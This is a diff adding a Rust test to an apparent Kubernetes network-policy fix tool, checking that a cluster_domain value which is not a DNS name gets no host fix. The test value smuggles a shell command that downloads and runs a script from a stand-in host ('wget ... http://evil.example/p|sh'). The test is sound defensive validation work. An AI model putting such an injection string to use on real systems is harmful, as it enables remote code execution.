@@ -819,3 +819,35 @@ fn a_file_changed_while_write_runs_keeps_the_change() {
         .count();
     assert_eq!(written, 0);
 }
+
+/// Item 7 of the output boundary: the hardcoded-IP fix writes `<service>.<namespace>.svc.<cluster_domain>`
+/// into a value; a `cluster_domain` (configuration a pull request can change) that is no DNS
+/// name gets no fix, and the finding says why.
+#[test]
+fn a_cluster_domain_that_is_no_dns_name_gets_no_host_fix() {
+    let tmp = tempfile::tempdir().unwrap();
+    let demo = tmp.path().join("demo");
+    copy_dir(
+        &Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"),
+        &demo,
+    );
+    fs::write(
+        demo.join("netpol-fix.yaml"),
+        "cluster_domain: \"x;wget -qO- http://evil.example/p|sh;#\"\n",
+    )
+    .unwrap();
+    let demo_arg = demo.to_str().unwrap();
+    let out = netpol_fix(&[demo_arg, "--write"]);
+    let backend = fs::read_to_string(demo.join("apps/backend.yaml")).unwrap();
+    assert!(backend.contains("value: 10.96.55.12"), "{backend}");
+    assert!(!backend.contains("evil.example"), "{backend}");
+    let out = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        out.contains("no fix: cluster_domain \"x;wget -qO- http://evil.example/p|sh;#\" is not a valid DNS name"),
+        "{out}"
+    );
+}
